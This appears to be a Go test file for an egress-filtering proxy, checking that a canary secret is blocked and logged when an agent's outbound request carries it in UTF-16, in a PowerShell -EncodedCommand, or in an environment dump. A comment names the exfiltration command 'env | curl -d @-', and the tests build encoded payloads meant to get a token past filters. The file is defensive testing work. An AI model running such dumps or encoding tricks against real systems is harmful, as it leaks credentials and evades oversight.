package egress

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/bb-bottles/bb/lib/audit"
)

// utf16LE and utf16BE are s in UTF-16, without a byte order mark.
func utf16LE(s string) []byte {
	var b []byte
	for _, r := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, r)
	}
	return b
}

func utf16BE(s string) []byte {
	var b []byte
	for _, r := range utf16.Encode([]rune(s)) {
		b = binary.BigEndian.AppendUint16(b, r)
	}
	return b
}

// TestAttackReqUTF16: a file written by a Windows tool (UTF-16, either
// byte order, with its byte order mark) or a PowerShell -EncodedCommand
// (base64 of UTF-16LE) carries the canary whole to whoever reads it back.
// It is blocked in a body around MaxScanBody and over both HTTP versions,
// and nothing of it reaches the upstream.
func TestAttackReqUTF16(t *testing.T) {
	h := newHarness(t, "", roomyLog)
	const limit = 1 << 20
	file := "$env:TOKEN = '" + h.canary + "'\r\n"
	forms := map[string][]byte{
		"utf-16le":        append([]byte{0xff, 0xfe}, utf16LE(file)...),
		"utf-16be":        append([]byte{0xfe, 0xff}, utf16BE(file)...),
		"base64 utf-16le": []byte("powershell -EncodedCommand " + base64.StdEncoding.EncodeToString(utf16LE(file))),
	}
	u := h.tlsURL("other.test", "/up")
	for _, h2 := range []bool{false, true} {
		c := h.client(h2)
		for name, enc := range forms {
			for _, size := range []int{len(enc), limit - 1, limit, limit + 1, 3 * limit} {
				body := enc
				if size > len(enc) {
					body = append(bytes.Repeat([]byte{' ', 0}, (size-len(enc))/2), enc...)
					body = append(bytes.Repeat([]byte{' '}, size-len(body)), body...)
				}
				before := h.upIdle()
				st, _ := h.post(t, c, u, "text/plain; charset=utf-16", body)
				if st != 403 {
					t.Errorf("h2 %v, %s in %d bytes: status %d", h2, name, size, st)
				}
				if got := h.sentSince(before); bytes.Contains(got, enc[len(enc)-24:]) {
					t.Errorf("h2 %v, %s in %d bytes: the upstream received its end", h2, name, size)
				}
			}
		}
	}
	e := h.waitEntry("a utf-16 block", func(e audit.Entry) bool { return e.Canary && e.Encoding == "utf-16" })
	if e.Status != 403 || e.Decision != audit.Block {
		t.Errorf("logged %+v", e)
	}
}

// TestAttackReqCanaryAfterAnotherSecret: a dump of the agent's
// environment (env | curl -d @-) holds a placeholder before the canary.
// The scan stops at the first secret; the log line must still name the
// canary, or bb-canary check says it was never seen. Tried with the
// placeholder in a header and the canary in the body, both in a small
// body, and in a large one with the canary far past the first MiB, over
// both HTTP versions.
func TestAttackReqCanaryAfterAnotherSecret(t *testing.T) {
	h := newHarness(t, "", roomyLog)
	const limit = 1 << 20
	env := "EGRESS_PLACEHOLDER_API=" + placeholder + "\nEGRESS_TOKEN_CANARY=" + h.canary + "\n"
	type tc struct {
		header string
		body   []byte
	}
	cases := map[string]tc{
		"small body":               {"", []byte(env)},
		"header then body":         {placeholder, []byte("EGRESS_TOKEN_CANARY=" + h.canary)},
		"body at limit":            {"", padTo(limit, env)},
		"large body":               {"", append(append([]byte(env[:len(env)/2]), bytes.Repeat([]byte("x\n"), limit)...), env[len(env)/2:]...)},
		"large, placeholder first": {"", append(append([]byte("P="+placeholder+"\n"), bytes.Repeat([]byte("y\n"), 2*limit)...), env...)},
	}
	for _, h2 := range []bool{false, true} {
		c := h.client(h2)
		for name, k := range cases {
			n := len(h.entries())
			req := mustReq("POST", h.tlsURL("other.test", "/up"), bytes.NewReader(k.body))
			if k.header != "" {
				req.Header.Set("X-Who", k.header)
			}
			if st, _, _ := h.do(c, req); st != 403 {
				t.Errorf("h2 %v, %s: status %d", h2, name, st)
			}
			h.wantCanaryBlock(t, n, fmt.Sprintf("h2 %v, %s", h2, name))
			for _, e := range h.entries()[n:] {
				if e.Canary && !strings.Contains(e.Reason, "PLACEHOLDER_API") {
					t.Errorf("h2 %v, %s: the line does not name the other secret: %s", h2, name, e.Reason)
				}
			}
		}
	}
}
